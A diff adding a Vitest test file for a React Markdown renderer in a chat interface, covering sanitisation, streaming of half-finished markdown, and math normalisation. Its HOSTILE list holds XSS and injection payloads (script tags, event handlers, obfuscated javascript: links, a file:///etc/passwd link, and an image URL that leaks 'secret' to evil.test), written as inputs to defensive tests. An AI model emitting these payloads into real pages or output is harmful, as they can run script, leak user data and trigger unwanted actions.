@@ -1,0 +1,93 @@
+import { renderToStaticMarkup } from 'react-dom/server'
+import { describe, expect, it } from 'vitest'
+import { Markdown } from './markdown.tsx'
+import { hasMath, normalizeMath } from './normalize-math.ts'
+
+const render = (text: string, isStreaming = false) =>
+  renderToStaticMarkup(<Markdown text={text} isStreaming={isStreaming} />)
+
+/** What models were made to write by pages, files and jokers. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<iframe src="https://evil.test"></iframe>',
+  '<svg/onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{display:none}</style>',
+  '<form action="https://evil.test"><input name=p></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](vbscript:msgbox)',
+  '[x](file:///etc/passwd)',
+  '[x](/api/trpc/chat.remove)',
+  '[x](//evil.test)',
+  '[x][r]\n\n[r]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '![secret](https://evil.test/?q=secret)',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![x](javascript:alert(1))',
+  '[![x](https://evil.test/a.png)](javascript:alert(1))',
+  '```html\n<script>alert(1)</script>\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '| <script>x</script> | [y](javascript:z) |\n|---|---|\n| <b onclick=x> | ![i](http://e.test/i) |',
+  '- [x] <img src=x onerror=alert(1)>',
+  '\\href{javascript:alert(1)}{x} $$\\href{javascript:alert(1)}{x}$$',
+  'text[^1]\n\n[^1]: <script>alert(1)</script>',
+]
+
+describe('hostile text', () => {
+  it.each(HOSTILE.flatMap((text) => [[text, false] as const, [text, true] as const]))(
+    '%s (streaming: %s)',
+    (text, isStreaming) => {
+      const html = render(text, isStreaming)
+      const tags = html.match(/<[a-z][^>]*>/gi)?.join('\n') ?? ''
+      expect(tags).not.toMatch(/<(script|iframe|img|style|form|meta|input|object|embed|base|link)\b/i)
+      expect(tags).not.toMatch(/\son[a-z]+=/i)
+      for (const [, href = ''] of tags.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:|mailto:|#)/)
+    },
+  )
+  it('shows HTML as the text that it is', () => {
+    expect(render('a <b>bold</b> move')).toContain('&lt;b&gt;bold&lt;/b&gt;')
+  })
+  it('opens links elsewhere, without a word on where they were clicked', () => {
+    expect(render('[docs](https://example.test/a)')).toContain(
+      'href="https://example.test/a" target="_blank" rel="noopener noreferrer nofollow"',
+    )
+  })
+})
+
+describe('half-finished markdown', () => {
+  it.each([
+    ['**bold te', /<strong>bold te<span class="caret"/],
+    ['`cod', /<code>cod<span class="caret"/],
+    ['see [the do', /see the do/],
+    ['- one\n- two', /<li>two<span class="caret"/],
+    ['| a | b |\n|---|---|\n| 1 |', /<table>/],
+    ['```py\nprint(1', /Python/],
+  ])('%j', (text, expected) => {
+    const html = render(text, true)
+    expect(html).toMatch(expected)
+    expect(html).not.toContain('streamdown:')
+    expect(html.match(/class="caret"/g)).toHaveLength(1)
+  })
+})
+
+describe('normalizeMath', () => {
+  it.each([
+    ['It is \\(x^2\\).', 'It is $$x^2$$.'],
+    ['\\[a\\]', '\n$$\na\n$$\n'],
+    ['so $x^2$ holds', 'so $$x^2$$ holds'],
+    ['$$E=mc^2$$', '$$\nE=mc^2\n$$'],
+  ])('%s', (written, read) => expect(normalizeMath(written)).toBe(read))
+  it.each(['It costs $5 and $10.', 'from $5-$10', '`$a$`', '```sh\necho $HOME $PATH\n```', 'a \\$b$'])(
+    'leaves %j alone',
+    (text) => {
+      expect(normalizeMath(text)).toBe(text)
+      expect(hasMath(text)).toBe(false)
+    },
+  )
+})
